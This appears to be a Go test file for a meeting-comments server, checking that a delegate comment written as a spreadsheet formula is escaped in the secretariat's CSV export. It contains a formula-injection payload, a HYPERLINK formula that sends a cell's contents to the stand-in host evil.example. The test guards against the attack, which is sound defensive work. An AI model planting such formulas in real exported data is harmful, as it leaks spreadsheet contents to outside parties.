package server_test

import (
	"context"
	"strings"
	"testing"

	"github.com/daihoi/daihoi"
)

// A delegate's comment written as a spreadsheet formula reaches the secretariat's CSV as text, not
// as a link Excel would open.
func TestCommentsCSVHoldsNoFormula(t *testing.T) {
	h := startHall(t)
	ctx := context.Background()
	doc := h.Demo.Documents[0]
	tablet := h.Tablet(h.Officials(1)[0])
	formula := `=HYPERLINK("http://evil.example/?c="&A2,"Xem tài liệu")`
	if err := tablet.Post(ctx, "/api/comments", daihoi.CommentRequest{Document: doc.ID, Section: doc.Sections[0].Number, Text: formula}, nil); err != nil {
		t.Fatal(err)
	}
	var csv []byte
	if err := h.Login("thuky1").Do(ctx, "GET", "/api/comments.csv", nil, &csv); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(csv), `"'=HYPERLINK(""http://evil.example/?c=""&A2,""Xem tài liệu"")"`) {
		t.Fatalf("the comment is not neutralised in the CSV:\n%s", csv)
	}
	for _, line := range strings.Split(string(csv), "\n") {
		if strings.Contains(line, ",=") || strings.Contains(line, `,"=`) {
			t.Fatalf("a cell starts with =: %q", line)
		}
	}
}
